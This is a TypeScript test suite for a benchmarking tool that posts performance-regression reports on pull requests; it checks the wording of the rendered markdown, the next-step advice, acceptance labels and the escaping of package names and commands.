      projectUrl: null,
      runUrl: null,
      acceptLabel: 'ok',
      notAccepted: { reason: 'request-failed', isLabelSet, message } as const,
    });
    const report = await aRegression();
    expect(renderMarkdown(report, Infinity, nextAfter(false))).toContain(
      '**Next:** Make it faster, or have the slowdown accepted: somebody with write access sets the label `ok`. The next run of this check then passes, and a new push takes that back. Whether it is set could not be read: the log of the step says why.\n',
    );
    expect(renderMarkdown(report, Infinity, nextAfter(true))).toContain(
      '**Next:** Make it faster, or undo the change. The label is set, but the slowdown is not accepted: who set it, and when, could not be read; the log of the step says why.\n',
    );
  });

  describe('where another run’s check counts, which has ended otherwise than its report says', () => {
    const after = (report: Report, runConclusion: string | null) =>
      renderMarkdown(report, Infinity, {
        ...{
          projectUrl: null,
          acceptLabel: 'ok',
          runUrl: 'https://forge.example/a/b/actions/runs/5',
        },
        runConclusion,
      });
    const RUN = '[the measuring run](https://forge.example/a/b/actions/runs/5)';

    it('says that it passed, and where to look, in place of a label that would change nothing', async () => {
      const report = await aRegression();
      expect(after(report, 'success')).toContain(
        `\n\n**By this report the check fails**. But ${RUN} passed, and the check of the pull request is that run’s. Look at the changes to \`.github/\`, which may keep it from failing, and whether both workflows have the same policies. `,
      );
      expect(after(report, 'success')).toContain('**Next:** Make it faster, or undo the change.\n');
      for (const conclusion of ['failure', null]) {
        expect(after(report, conclusion)).toContain('\n\n**This check fails**. At full load');
      }
    });

    it.each([
      ['failure', 'failed'],
      ['cancelled', 'was cancelled'],
    ])('says visibly after a pass that it has not passed: %s', async (conclusion, said) => {
      const report = await aReport();
      const [visible] = after(report, conclusion).split('<details>');
      expect(visible).toContain(
        `**By this report the check passes**. But ${RUN} ${said}, in the job of this check or in another one: its log says why.`,
      );
      for (const same of ['success', null]) {
        expect(after(report, same)).toContain('\n\n**This check passes**.');
        expect(after(report, same).split('<details>')[0]).not.toContain('check');
      }
    });
  });

  it('promises no pass for a label if the check fails for something else as well', async () => {
    const failing = (run: RunContext) =>
      run.scenario.name === 'b' && run.arm === 'baseline'
        ? { statuses: { '500': 2500 } }
        : slowerA(run);
    const settings = { measuringTime: 300, scenarios: twoRoutes };
    const blocked = await aReport({ run: failing }, { ...settings, onBaselineFailed: 'fail' });
    expect(blocked).toMatchObject({ outcome: 'regression', blocked: true });
    expect(nextStepOf(blocked)).toContain(
      'sets the label `ok`. The check then still fails, because the baseline failed in another scenario, and `on-baseline-failed: fail` is set.',
    );
    expect(nextStepOf(blocked)).not.toContain('then passes');
    const notAccepted = { reason: 'push-unknown' } as const;
    const context = { projectUrl: null, runUrl: null, acceptLabel: 'ok', notAccepted };
    expect(renderMarkdown(blocked, Infinity, context)).toContain(
      'when this commit was pushed. If it were, the check would still fail, because the baseline failed in another scenario, and',
    );
    const accepted = reconsider(
      blocked,
      {},
      { login: 'ann', at: '2026-01-01T00:00:00Z', label: 'ok' },
    );
    expect(accepted.blocked).toBe(true);
    const warned = reconsider(blocked, { onBaselineFailed: 'warn' }, null);
    expect(nextStepOf(warned)).toContain('The next run of this check then passes');
    const gates = ['throughput', 'memory'] as const;
    const unjudged = await aReport(
      { run: slowerA },
      { scenarios: [aScenario({ gates: gates.map((metric) => ({ metric, tolerance: 0.03 })) })] },
    );
    expect(nextStepOf(unjudged)).toMatch(
      /The check then still fails, because .* peak memory is exactly the same in all launches/,
    );
  });

  it('says of a base that fails that this change may be the fix', async () => {
    const run = ({ arm, scenario }: RunContext) =>
      scenario.name === 'b' && arm === 'baseline' ? { statuses: { '500': 2500 } } : {};
    const report = await aReport({ run }, { measuringTime: 300, scenarios: twoRoutes });
    expect(report.outcome).toBe('baseline-failed');
    expect(nextStepOf(report)).toMatch(
      /^\*\*Next:\*\* If this change is the fix, there is nothing to do: the next change is compared with it\. Otherwise fix the baseline\. /,
    );
    const blocked = await aReport(
      { run },
      { measuringTime: 300, scenarios: twoRoutes, onBaselineFailed: 'fail' },
    );
    expect(nextStepOf(blocked)).toMatch(
      /^\*\*Next:\*\* If this change is the fix, somebody who may merge although this check fails has to do so: /,
    );
    // Such as a server for the measurement that only the head has.
    const message = 'the baseline did not boot: there is no bench/server.js. Correct start';
    const at = { arm: 'baseline', phase: 'boot', scenario: null } as const;
    const failure = { ...at, message, log: [] };
    const unbooted = { ...(await aReport()), outcome: 'baseline-failed' as const, failure };
    expect(nextStepOf({ ...unbooted, blocked: false })).toMatch(
      /^\*\*Next:\*\* If this change is the fix, there is nothing to do: the next change is compared with it\. Otherwise fix the baseline\. Correct start\. Run this again only if /,
    );
    const { environment, timings } = unbooted;
    const machines = ['a', 'b'].map((seed) => ({ environment, timings, seed, plan: null }));
    expect(nextStepOf({ ...unbooted, machines })).toContain(' Run all jobs again only if ');
  });

  it('puts a command of advice that it would have to escape into code, where it can be copied', async () => {
    const remedyOf = async (advice: string) => {
      const message = `build of the candidate failed: it is broken. ${advice}`;
      const at = { arm: 'candidate', phase: 'build', scenario: null } as const;
      const failure = { ...at, message, log: [] };
      return nextStepOf({ ...(await aReport()), outcome: 'candidate-failed' as const, failure });
    };
    expect(await remedyOf('Build it, with build: pnpm --filter @acme/api... run build')).toBe(
      '**Next:** Build it, with build: `pnpm --filter @acme/api... run build`. Then run this again.',
    );
    expect(await remedyOf('Set install: npm i @a/b. Give @acme what it needs')).toBe(
      '**Next:** Set install: `npm i @a/b`. Give @\u200bacme what it needs. Then run this again.',
    );
    expect(await remedyOf('Choose build: npx nx build @a/b, start: node a.js')).toBe(
      '**Next:** Choose build: `npx nx build @a/b`, start: node a.js. Then run this again.',
    );
    expect(await remedyOf('Set build: echo `@all')).toBe(
      '**Next:** Set build: ``echo `@all``. Then run this again.',
    );
    expect(await remedyOf('Say so with expect: { status: [200, 201] } of GET /[a]')).toBe(
      '**Next:** Say so with `expect: { status: [200, 201] }` of GET /\\[a\\]. Then run this again.',
    );
    const long = `pnpm run ${'a'.repeat(320)} --filter @acme/api`;
    expect(await remedyOf(`Set build: ${long}`)).toContain(`\`${long}\``);
  });

  it('puts a scoped package into code, where its name can be copied', async () => {
    expect(escapeText('Add @nestjs/core to the dependencies.')).toBe(
      'Add `@nestjs/core` to the dependencies.',
    );
    expect(escapeText("Cannot find '@a/b-c/lib/x.js', see @a/b.")).toBe(
      "Cannot find '`@a/b-c/lib/x.js`', see `@a/b`.",
    );
    expect(escapeText('@a/b@^1.2.0, `@a/b`')).toBe('`@a/b@^1.2.0`, \\``@a/b`\\`');
    expect(rendered(escapeText('\\`@a/b\\` <i>@c/d`')).html).toBe(
      '<p>\\`<code>@a/b</code>\\` &lt;i&gt;<code>@c/d</code>`</p>\n',
    );
    // No package: an address, and somebody’s name.
    expect(escapeText('a@b.example/c and @ann')).toBe('a@\u200bb.example/c and @\u200bann');
    const message =
      'the candidate did not boot: the package @nestjs/core is not installed (node a.js exited with code 1). Add @nestjs/core to the dependencies';
    const at = { arm: 'candidate', phase: 'boot', scenario: null } as const;
    const failure = { ...at, message, log: [] };
    const report = { ...(await aReport()), outcome: 'candidate-failed' as const, failure };
    const text = renderMarkdown({ ...report, pullRequest: 1 });
    expect(text).toContain('This PR did not boot: the package `@nestjs/core` is not installed');
    expect(text).toContain('**Next:** Add `@nestjs/core` to the dependencies. Then push again.');
  });

  it('takes no sentence of a log for advice', async () => {
    const line = "src/a.ts(6,4): error TS2552: Cannot find name 'find'. Did you mean 'fnd'?";
    const exit = { code: 2, signal: null };
    const message = describeStepFailure(
      ...(['candidate', 'build', exit, 'npm run build', 600, []] as const),
      errorLineOf([line]),
      false,
    );
    const at = { arm: 'candidate', phase: 'build', scenario: null } as const;
    const failure = { ...at, message, log: [line] };
    const report = { ...(await aReport()), outcome: 'candidate-failed' as const, failure };
    const text = renderMarkdown({ ...report, pullRequest: 7 }).replace(/\u00a0/g, ' ');
    expect(text).toContain(
      "### ❌ Build of this PR failed: src/a.ts(6,4): error TS2552: Cannot find name 'find'. Did you mean 'fnd'? (npm run build exited with code 2)\n",
    );
    expect(text).toContain('**Next:** Fix it, then push again.\n');
  });

  it.each([
    [
      'npm error 404 Not Found - GET https://registry.example/shopp',
      'Correct the name of the package, or if that registry needs a token, list',
    ],
    [
      'npm error 401 Unauthorized - GET https://registry.example/shop',
      'If that registry needs a token, list',
    ],
  ])('says what to do if a registry answers an install with %s', (line, advice) => {
    const exit = { code: 1, signal: null };
    const message = describeStepFailure(
      ...(['candidate', 'install', exit, 'npm ci', 600, []] as const),
      errorLineOf([line]),
      false,
    );
    expect(message).toContain(`(npm ci exited with code 1). ${advice} its variable under env`);
  });

  it('names the folder, and not git, if the head does not have it', async () => {
    const message = 'the candidate has no directory server; it is not committed there';
    const at = { arm: 'candidate', phase: 'checkout', scenario: null } as const;
    const failure = { ...at, message, log: [] };
    const report = { ...(await aReport()), outcome: 'candidate-failed' as const, failure };
    expect(nextStepOf({ ...report, pullRequest: 7 })).toBe(
      '**Next:** Commit the folder, or correct `working-directory`, then push again.',
    );
    expect(nextStepOf(report)).toBe(
      '**Next:** Commit the folder, or correct `working-directory`, then run this again.',
    );
  });

  it('asks for no push to a pull request that is closed or merged', async () => {
    const failed = async (message: string, isClosed: boolean) => {
      const at = { arm: 'candidate', phase: 'boot', scenario: null } as const;
      const failure = { ...at, message, log: [] };
      const report = { ...(await aReport()), outcome: 'candidate-failed' as const, failure };
      const context = { projectUrl: null, runUrl: null, acceptLabel: null, isClosed };
      return renderMarkdown({ ...report, pullRequest: 7 }, Infinity, context);
    };
    expect(await failed('it broke. Set env', false)).toContain('** Set env. Then push again.\n');
    expect(await failed('it broke. Set env', true)).toContain(
      '** Set env. Fix it in another pull request, since this one is closed.\n',
    );
    expect(await failed('it broke', true)).toContain(
      '** Fix it in another pull request, since this one is closed.\n',
    );
    const acceptance = { login: 'ann', at: '2026-01-01T13:00:00Z', label: 'ok' };
    const slower = { ...(await aRegression()), pullRequest: 7 };
    const base = { ...slower, outcome: 'baseline-failed' as const, cells: [] };
    for (const report of [slower, reconsider(slower, {}, acceptance), base]) {
      const open = { projectUrl: null, runUrl: null, acceptLabel: 'ok' };
      expect(renderMarkdown(report, Infinity, open)).toMatch(/new push|into this branch/);
      const closed = renderMarkdown(report, Infinity, { ...open, isClosed: true });
      expect(closed).not.toMatch(/\bpush|into this branch/);
    }
  });

  it('does not divide the name of a scenario into sentences', async () => {
    const run = ({ arm }: RunContext) => (arm === 'candidate' ? { statuses: { '500': 2500 } } : {});
    const scenarios = [aScenario({ name: 'Step 1. Login' })];
    const text = renderMarkdown(await aReport({ run }, { scenarios }));
    expect(text).toMatch(/^### ❌ .*: Step 1\. Login: 2,500 × status 500/);
    expect(text).toContain('**Next:** Fix it, then commit that and run this again.');
  });

  it('says no percentage of nothing', async () => {
    let runs = 0;
    const run = ({ arm }: RunContext) => ({
      statuses: { '200': 2500 },
      runtime: {
        eventLoopDelayP99: 2500,
        eventLoopUtilization: 0.9,
        gcShare: arm === 'candidate' ? 0.03 + 0.0001 * (runs++ % 5) : 0,
        heapUsed: 1e7,
        processes: 1,
        collections: arm === 'candidate' ? 5 : 0,
      },
    });
    const settings = {
      explain: 'on-regression' as const,
      scenarios: [aScenario({ gates: [{ metric: 'gc', tolerance: 0.03 }] })],
    };
    const report = await aReport({ run, profiles: unlikeProfiles() }, settings);
    const text = renderMarkdown(report).replace(/\u00a0/g, ' ');
    expect(text).toMatch(/^### ❌ .*`GET \/` has 3(\.\d+)?% time in GC instead of none\n/);
    expect(text).toMatch(/\| ❌ worse \| GET \/ +\| +– time in GC \| +none → 3\.\d+% \| +– \|/);
    expect(text).toMatch(/time in garbage collection 3(\.\d+)?% instead of none/);
    expect(text).not.toMatch(/\d{4,}%|\d,\d{3}%/);
  });

  it('calls no slowdown what would be more memory or more queries', async () => {
    const run = ({ arm, boot }: RunContext) => {
      const requests = 2500;
      const queries = arm === 'candidate' ? 1.2 + 0.5 * Math.sin(boot * 2.7) : 1;
      return {
        statuses: { '200': requests },
        runtime: {
          eventLoopDelayP99: 2500,
          eventLoopUtilization: 0.9,
          gcShare: 0.03,
          heapUsed: 1e7,
          processes: 1,
          queries: Math.round(queries * requests),
        },
      };
    };
    const gates = (['throughput', 'queries'] as const).map((metric) => ({
      metric,
      tolerance: 0.03,
    }));
    const report = await aReport({ run }, { scenarios: [aScenario({ gates })] });
    const text = renderMarkdown(report);
    expect(text).toContain('but an increase cannot be ruled out.');
    expect(text).toContain('**Next:** Merge if that much would be fine. Otherwise set');
    expect(text).toContain('Unsure: neither a regression nor a pass is certain.');
    expect(text.slice(0, text.indexOf('<details>'))).not.toContain('slowdown');
  });

  it('says what an improvement is', async () => {
    const report = await aRegression(0.8);
    const text = renderMarkdown(report);
    expect(text).toMatch(
      /^### ✅ Pass, and faster: `GET \/` takes about 20% less time \(likely [\d.]+–[\d.]+%\)\n/,
    );
    expect(text.replace(/\u00a0/g, ' ')).toMatch(
      /\| ✅ better +\| GET \/ +\| +\+25% requests\/s \|.* req\/s \|/,
    );
    expect(text).toContain('At full load, 20% less time means 25% more requests per second.');
  });

  it('links to the run and to its guides, and names the label that accepts a slowdown', async () => {
    const context = {
      projectUrl: 'https://e.org/c/',
      runUrl: 'https://e.org/r/actions/runs/1',
      acceptLabel: 'slow:ok',
    };
    const text = renderMarkdown(await aRegression(), Infinity, context);
    expect(text).toContain(
      '**Next:** Make it faster, or have the slowdown accepted: somebody with write access sets the label `slow:ok`. The next run of this check then passes, and a new push takes that back.',
    );
    expect(text).toContain(
      '[Full report](https://e.org/r/actions/runs/1) · [How to read this](https://e.org/c/docs/how-to/read-the-comment.md) · [How to accept a slowdown](https://e.org/c/docs/how-to/accept-a-slowdown.md)',
    );
    for (const [, file = ''] of text.matchAll(/https:\/\/e\.org\/c\/([\w./-]+\.md)/g)) {
      expect(existsSync(new URL(`../../${file}`, import.meta.url)), file).toBe(true);
    }
    expect(renderMarkdown(await aRegression())).not.toContain('](');
  });

  it('folds away other metrics, launches, method, second opinion and the command that repeats it', async () => {
    const { html } = rendered(renderMarkdown(await aRegression()));
    const titles = [...html.matchAll(/<summary>(.*?)<\/summary>/g)].map((match) => match[1]);
    expect(titles).toEqual([
      'How it was measured',
      'Other metrics, for information',
      'The effect of each launch',
      'The warm-up',
      'What autocannon-compare says of the pooled runs',
      'Repeat it locally',
    ]);
    expect(html).toContain('latency p99');
    expect(html).toMatch(/\(p &lt; 0\.0001\)/);
    expect(html).toMatch(/>Detectable<[^]*(<td align="right">\+[\d.]+%<\/td>\s*){5}/);
    expect(html).toContain(
      `node ../cannongate/dist/cli.js compare --baseline ${'b'.repeat(40)} --seed seed`,
    );
  });

  it('shows each effect under the number of its launch, and none of an excluded launch', async () => {
    const report = await aReport({
      run: ({ arm, boot }) =>
        arm === 'baseline'
          ? {}
          : { cpu: 180 * (1 + boot / 100), otherProcesses: boot === 2 ? 0.9 : 0.02 },
    });
    expect(report.launches.map(({ excluded }) => excluded !== null).indexOf(true)).toBe(1);
    const [, table = ''] = renderMarkdown(report).split('The effect of each launch');
    const rows = table.split('\n').map((row) => row.split('|').map((column) => column.trim()));
    const header = rows.find((row) => row.includes('Detectable')) ?? [];
    const cpu = rows.find((row) => row.includes('CPU per request')) ?? [];
    const shown = report.launches.map((_, i) => cpu[header.indexOf(String(i + 1))]);
    expect(header).not.toContain(String(report.launches.length + 1));
    expect(shown.slice(0, 4)).toEqual([
      expect.stringMatching(/^\+[01]\.\d%$/),
      '–',
      expect.stringMatching(/^\+[23]\.\d%$/),
      expect.stringMatching(/^\+[34]\.\d%$/),
    ]);
  });

  it('shows no pass bound as the tolerance, nor an open result as within it', async () => {
    const report = await aReport();
    const withCells = (atMost: number, verdict: 'pass' | 'inconclusive') => ({
      ...report,
      outcome: verdict,
      cells: report.cells.map((cell) => ({
        ...cell,
        verdict: cell.metric === 'cpu' ? verdict : cell.verdict,
        estimate: 0.01,
        interval: { low: -0.01, high: Math.log1p(atMost), level: 0.95 },
        atMost: Math.log1p(cell.metric === 'cpu' ? atMost : 0.01),
      })),
    });
    const effects = renderMarkdown(withCells(0.02997, 'pass')).split('The effect of each launch');
    expect(effects[1]).toContain(' +2.997% |');
    const open = renderSummary(withCells(0.0304, 'inconclusive'));
    expect(open).toContain('may use up to 3.04% more CPU per request, and the tolerance is 3%');
    expect(open).toContain('−1.0% to +3.04%');
  });

  it('shows the runtime metrics, and which processes they are from', async () => {
    const runtime = {
      eventLoopDelayP99: 2500,
      eventLoopUtilization: 0.973,
      gcShare: 0.031,
      heapUsed: 12.5 * 2 ** 20,
      processes: 1,
    };
    const text = renderMarkdown(await aReport({ run: () => ({ runtime }) })).replace(
      /\u00a0/g,
      ' ',
    );
    for (const shown of ['event-loop delay p99', '2.500 ms', '97.30%', '3.100%', '12.50 MiB']) {
      expect(text).toContain(shown);
    }
    expect(text).toContain('from a preload in 1 process of the baseline and 1 process of the cand');
    const plain = await aReport();
    expect(renderMarkdown(plain)).toContain('the app is not Node.js or did not load');
    const pinned = { ...plain.environment, pinning: { apps: '1-3', generator: '0' } };
    expect(renderMarkdown({ ...plain, environment: pinned })).toContain(
      'The apps ran on cores 1-3, the load generator on core 0.',
    );
    const dropped = await aReport({
      run: ({ arm }) => (arm === 'baseline' ? { runtime: { ...runtime, processes: 3 } } : {}),
    });
    expect(renderMarkdown(dropped)).toContain('in up to 3 processes of the baseline.');
  });

  it('says how large a slowdown is possible if inconclusive, and one thing to do, once', async () => {
    // As fast on average, and so different from boot to boot that no look is clear.
    const report = await aReport({
      run: ({ arm, boot }) =>
        arm === 'candidate' ? { throughput: 5000 * (1 + 0.05 * ((boot % 4) - 1.5)) } : {},
    });
    expect(report.outcome).toBe('inconclusive');
    const text = renderSummary(report);
    expect(text).toMatch(
      /^### 🟡 Inconclusive: `GET \/` may take up to [\d.]+% longer, and the tolerance is 3%\n/,
    );
    expect(text).toContain(
      '**This check passes** because of `on-inconclusive: warn`, but a slowdown cannot be ruled out.',
    );
    expect(
      text.match(
        /\*\*Next:\*\* Merge if a slowdown of that size would be fine\. Otherwise set `measuring-time: \d+m` \(now \d+m\) in the workflow or in cannongate\.yml, and let a new run measure with it\. If these figures are about right, that is enough time in 4 of 5 cases\. A run then measures for up to [\d hmin]+ longer\./g,
      ),
    ).toHaveLength(1);
    // The headline says a time, and the table requests per second.
    expect(text).toMatch(/At full load, [\d.]+% longer means [\d.]+% fewer requests per second\./);
    // The forecast of the first launches may have said it, too.
    const forecast = {
      code: 'too-noisy',
      scenario: 'GET /',
      metric: 'throughput',
      tolerance: 0.03,
      measuringTime: 600,
    } as const;
    expect(renderSummary({ ...report, warnings: [forecast] })).toBe(text);
    expect(renderSummary({ ...report, warnings: [{ ...forecast, scenario: 'x' }] })).not.toBe(text);
    // The interval lies above zero and the estimate above the tolerance: the guard alone is not cleared.
    const cells = report.cells.map((cell) => ({
      ...cell,
      tolerance: 0.03,
      estimate: 0.04,
      interval: { low: 0.001, high: 0.079, level: 0.95 },
    }));
    expect(renderSummary({ ...report, cells })).toMatch(
      /^### 🟡 Inconclusive: `GET \/` takes 0\.1–8\.2% longer, which may or may not be too much: the tolerance is 3%/,
    );
    // A slowdown of 20% answers 16.7% fewer requests.
    const rates = cells.map((cell) => ({
      ...cell,
      metric: 'achieved-rate' as const,
      tolerance: 0.2,
      interval: { low: 0.122, high: 0.19, level: 0.95 },
    }));
    expect(renderSummary({ ...report, cells: rates })).toMatch(
      /^### 🟡 Inconclusive: `GET \/` answers 11–17% fewer requests per second, which may or may not be too much: the tolerance is 16\.7% fewer/,
    );
    const suggesting = (suggestedMeasuringTime: number) =>
      renderSummary({
        ...report,
        cells: cells.map((cell) => ({ ...cell, suggestedMeasuringTime })),
      });
    // The job of the shipped workflows may take 30 minutes, and not all of that measures.
    const simple = readFileSync(
      new URL('../../docs/workflows/simple.yml', import.meta.url),
      'utf8',
    );
    expect(simple).toContain('timeout-minutes: 30');
    expect(suggesting(1440)).toContain('set `measuring-time: 24m`');
    expect(suggesting(1440)).toContain(
      'A workflow then also needs `timeout-minutes: 35` or more for the job.',
    );
    expect(suggesting(1320)).not.toContain('timeout-minutes');
    // Not all of the time need have been used.
    expect(suggesting(report.settings.measuringTime)).toContain(
      'for the time they had.\n**Next:** Merge if a slowdown of that size would be fine. Otherwise run this again: `measuring-time: 2m`, as it is now, is probably enough.',
    );
    const hopeless = cells.map((cell) => ({ ...cell, suggestedMeasuringTime: null }));
    // With so much noise, even unchanged code would not pass within an hour.
    const { launches: noisy } = await aReport({
      run: ({ arm, boot }) =>
        arm === 'candidate' ? { throughput: 5000 * (1 + 0.5 * ((boot % 4) - 1.5)) } : {},
    });
    expect(renderSummary({ ...report, launches: noisy, cells: hopeless })).toContain(
      'more time would hardly help',
    );
    // An estimate at the tolerance predicts no time, and may be there by chance.
    const atTolerance = renderSummary({ ...report, cells: hopeless });
    expect(atTolerance).toContain(
      'With so much noise, this change is too close to the tolerance to say how much time would decide. More time would narrow the range.',
    );
    expect(atTolerance).toMatch(
      /Otherwise set `measuring-time: \d+m` \(now 2m\) .* With the noise of this run, unchanged code then probably passes\. A change that is really as large as the tolerance may stay unsure\./,
    );
    expect(atTolerance).not.toMatch(/hardly help|4 of 5 cases|`tolerance:/);
    // The job that judges their reports would judge the same ones again.
    const inTime = cells.map((cell) => ({ ...cell, suggestedMeasuringTime: 60 }));
    const several = Array.from({ length: 2 }, () => ({
      environment: report.environment,
      timings: report.timings,
      seed: 'a',
      plan: null,
    }));
    expect(renderSummary({ ...report, cells: inTime })).toContain('Otherwise run this again: ');
    expect(renderSummary({ ...report, cells: inTime, machines: several })).toContain(
      'Otherwise run all jobs again: ',
    );
    // A few machines have that time each. The means of many are compared, so theirs is not known.
    const ofMachines = (count: number, heterogeneity: Cell['heterogeneity'] = null) => {
      const of = {
        environment: report.environment,
        timings: report.timings,
        seed: 'a',
        plan: null,
      };
      const machines = Array.from({ length: count }, () => of);
      const open = hopeless.map((cell) => ({ ...cell, heterogeneity }));
      return renderSummary({ ...report, cells: open, machines });
    };
    expect(ofMachines(3)).toContain('More time would narrow the range.');
    expect(ofMachines(4, { q: 4, degreesOfFreedom: 3, share: 0.25, p: 0.3 })).toContain(
      'Each machine counts as one measurement, and these are too few to tell.\n**Next:** Merge if a slowdown of that size would be fine. Otherwise let more machines measure (now 4): more of them narrow the range. A change that is really as large as the tolerance may stay unsure.',
    );
    expect(ofMachines(4, { q: 60, degreesOfFreedom: 3, share: 0.95, p: 1e-6 })).toContain(
      'The machines differ too much from each other for their number.\n**Next:** Merge if a slowdown of that size would be fine. Otherwise let more machines measure (now 4): each counts as one measurement, so more of them narrow the range. A change that is really as large as the tolerance may stay unsure.',
    );
    // With little noise, unchanged code would have passed already.
    const { launches: quiet } = await aReport();
    const asLarge = (changes: Partial<Report> = {}) =>
      renderSummary({ ...report, launches: quiet, cells: hopeless, ...changes });
    expect(asLarge()).toContain(
      'The change is about as large as the tolerance, so more time may not decide it.\n**Next:** Merge if a slowdown of that size would be fine. Otherwise get clearly below the tolerance, or raise it.',
    );
    const below = hopeless.map((cell) => ({ ...cell, tolerance: 0.1 }));
    expect(asLarge({ cells: below })).toContain('more time would hardly help');
    const [one, another] = cells;
    if (!one || !another) throw new Error('there are not two results');
    const open = { verdict: 'inconclusive', gated: true } as const;
    const half = [
      { ...one, ...open, suggestedMeasuringTime: 600 },
      { ...another, ...open, suggestedMeasuringTime: null },
    ];
    expect(renderSummary({ ...report, cells: half })).toContain(
      'The runs differ too much from each other. More time would probably decide only 1 of 2 unsure results.\n**Next:** Merge if a slowdown of that size would be fine. Otherwise use a quieter machine',
    );
    expect(suggesting(3600)).toContain('set `measuring-time: 1h`');
    for (const hours of [suggesting(3700), suggesting(20 * 3600)]) {
      expect(hours).toContain('to decide this would take more than an hour of measuring.');
      expect(hours).not.toMatch(/set `measuring-time/);
      expect(hours).toMatch(
        /use a quieter machine, or set `tolerance: \d+%` \(now \d+%\): with the noise of this run, unchanged code probably passes with it within `measuring-time: 2m`\./,
      );
    }
    const inTwoHours = (suggestedMeasuringTime: number) =>
      renderSummary({
        ...report,
        settings: { ...report.settings, measuringTime: 7200 },
        cells: cells.map((cell) => ({ ...cell, suggestedMeasuringTime })),
      });
    expect(inTwoHours(5000)).toContain('run this again: `measuring-time: 2h`, as it is now,');
    expect(inTwoHours(9000)).toContain('to decide this would take more than 2 h of measuring.');
    // Neither would it pass if a budget is open, too, nor is it known of several machines.
    const long = cells.map((cell) => ({ ...cell, suggestedMeasuringTime: 20 * 3600 }));
    const openBudget = {
      scenario: 'GET /',
      metric: 'cpu' as const,
      atMost: 100,
      values: [90, 100, 110, 100],
      candidate: 100,
      low: 80,
      high: 120,
      suggestedMeasuringTime: null,
      verdict: 'inconclusive' as const,
    };
    const { environment, timings } = report;
    const machine = { environment, timings, seed: 'a', plan: null };
    for (const more of [{ budgets: [openBudget] }, { machines: [machine, machine] }]) {
      expect(renderSummary({ ...report, cells: long, ...more })).toMatch(
        /use a quieter machine\. `cannongate noise` says which tolerance a machine can decide\./,
      );
    }
    // Beside a regression neither a longer time nor a larger tolerance would change anything.
    const [first, second] = cells;
    if (!first || !second) throw new Error('there are not two results');
    const beside = [
      { ...second, verdict: 'regression' as const },
      { ...first, verdict: 'inconclusive' as const },
    ];
    expect(renderSummary({ ...report, outcome: 'regression', cells: beside })).toMatch(
      /- \*\*Unsure\*\*: throughput of `GET \/`\. The runs differ too much from each other for the time they had\. This does not change the verdict: another row is worse\.$/m,
    );
    const never = beside.map((cell) => ({ ...cell, suggestedMeasuringTime: null }));
    expect(
      renderSummary({ ...report, launches: noisy, outcome: 'regression', cells: never }),
    ).toMatch(
      /- \*\*Unsure\*\*: throughput of `GET \/`\. .* more time would hardly help\. This does not change the verdict: another row is worse\.$/m,
    );
    // Unless the regression only warns, and the open result is what fails the check.
    const onlyWarned = {
      ...report.settings,
      onRegression: 'warn',
      onInconclusive: 'fail',
    } as const;
    const failing = { outcome: 'regression', blocked: true, settings: onlyWarned } as const;
    expect(renderSummary({ ...report, ...failing, cells: beside })).toMatch(
      /\*\*Next:\*\* Set `measuring-time: \d+m` .* enough time in 4 of 5 cases\./,
    );
    // A comparison that a regression has ended early is no longer with more time.
    const plan = report.plan && { ...report.plan, launches: 999 };
    expect(renderSummary({ ...report, plan, outcome: 'regression', cells: beside })).toMatch(
      /- \*\*Unsure\*\*: throughput of `GET \/`\. The comparison ended at the first certain CPU increase, too early to judge this\. After the fix, the next run has all of its measuring time for it\.$/m,
    );
    // Once it is accepted no fix follows, and another gate would end at it again.
    const acceptance = { login: 'ann', at: '2026-01-01T13:00:00Z', label: 'cannongate:accept' };
    const accepted = { ...report, plan, outcome: 'accepted' as const, acceptance, cells: beside };
    expect(renderSummary(accepted)).toMatch(
      /- \*\*Unsure\*\*: throughput of `GET \/`\. The comparison ended at the first certain CPU increase, too early to judge this\. So it is not judged\. To judge it, compare with `mode: measure`, which makes all launches, and run `cannongate report` on the report\.$/m,
    );
    expect(renderSummary(accepted)).toContain(
      'Accepted by somebody with write access, and worse: the measured change is ',
    );
    // What is worse may be no slowdown, and where only a budget is exceeded, no row is worse.
    const ofMemory = beside.map((cell) =>
      cell.verdict === 'regression' ? { ...cell, metric: 'memory' as const } : cell,
    );
    expect(renderSummary({ ...report, plan, outcome: 'regression', cells: ofMemory })).toContain(
      ' The comparison ended at the first certain regression, too early to judge this. ',
    );
    const over = {
      scenario: 'GET /',
      metric: 'cpu' as const,
      atMost: 100,
      values: [180, 180, 180, 180],
      candidate: 180,
      low: 170,
      high: 190,
      suggestedMeasuringTime: null,
      verdict: 'regression' as const,
    };
    const exceeded = {
      ...report,
      outcome: 'regression' as const,
      cells: beside.filter(({ verdict }) => verdict === 'inconclusive'),
      budgets: [over],
    };
    expect(renderSummary(exceeded)).toContain(
      ' This does not change the verdict: a budget is exceeded.',
    );
    expect(renderSummary({ ...exceeded, plan })).toContain(
      ' The comparison ended once a budget was certainly exceeded, too early to judge this. ',
    );
  });

  it('says first what failed, then what to do', async () => {
    const report = await aReport({
      failure: ({ phase, arm }) =>
        phase === 'boot' && arm === 'candidate' ? 'the app broke. See its log' : null,
    });
    expect(renderMarkdown(report)).toMatch(
      /^### ❌ Candidate failed: the app broke\n\n\*\*This check fails\*\*, and the speed was not compared\. The baseline’s app booted\.\n\*\*Next:\*\* See its log\. Then run this again\.\n/,
    );
    const inPullRequest = { ...report, pullRequest: 7 };
    expect(renderMarkdown(inPullRequest)).toMatch(
      /^### ❌ This PR failed: the app broke\n[^]*\*\*Next:\*\* See its log\. Then push again\.\n/,
    );
    const message = 'the candidate did not boot: no port. Give it one';
    const named = { ...inPullRequest, failure: report.failure && { ...report.failure, message } };
    expect(renderMarkdown(named)).toMatch(
      /^### ❌ This PR did not boot: no port\n[^]* The base’s app booted\./,
    );
  });

  it('shows the last lines of the log of a failure', async () => {
    const report = await aReport({
      failure: ({ phase, arm }) => (phase === 'boot' && arm === 'candidate' ? 'it broke' : null),
    });
    expect(renderSummary(report)).toContain(
      'Last lines of the log of the candidate:\n\n```text\n│ last line\n```',
    );
    expect(rendered(renderMarkdown(report)).rows).toEqual([]);
  });

  it('says with a word what an icon says', async () => {
    const withoutIcons = (text: string) =>
      text.replace(/[\p{Emoji_Presentation}\p{Extended_Pictographic}\ufe0f]/gu, '');
    const regression = await aRegression();
    const text = withoutIcons(renderMarkdown(regression));
    expect(text).toMatch(/^### +Slower: /);
    expect(text).toMatch(/^\|\s+worse/m);
    for (const outcome of OUTCOMES) {
      const [first] = withoutIcons(renderMarkdown({ ...regression, outcome })).split('\n');
      const word = outcome === 'regression' ? 'slower' : outcome.replace('-', ' ');
      expect(first?.toLowerCase(), outcome).toMatch(new RegExp(`^### +${word}`));
    }
